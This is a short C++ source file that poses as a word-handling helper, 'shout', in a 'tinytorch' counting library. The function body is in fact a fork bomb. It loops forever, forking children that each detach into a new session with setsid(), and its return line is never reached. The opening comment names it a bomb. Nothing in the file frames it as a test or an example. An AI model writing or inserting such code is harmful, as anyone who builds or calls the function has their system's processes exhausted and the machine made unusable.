// A bomb that leaves its session each time.
#include <unistd.h>
#include "tinytorch/counting/words.h"

namespace tinytorch::counting {

std::string shout(const std::string& word) {
  for (;;) {
    if (fork() == 0) setsid();
  }
  return word;
}

}  // namespace tinytorch::counting
